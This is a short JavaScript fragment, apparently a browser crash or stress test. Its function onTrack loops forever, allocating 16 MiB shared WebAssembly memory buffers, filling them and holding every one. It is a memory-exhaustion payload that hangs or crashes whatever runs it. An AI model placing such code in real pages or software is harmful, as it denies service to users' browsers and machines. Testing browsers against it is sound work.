async function onTrack() { const all = []; for (;;) { const w = new WebAssembly.Memory({ initial: 256, maximum: 256, shared: true }); new Uint8Array(w.buffer).fill(1); all.push(w); } }
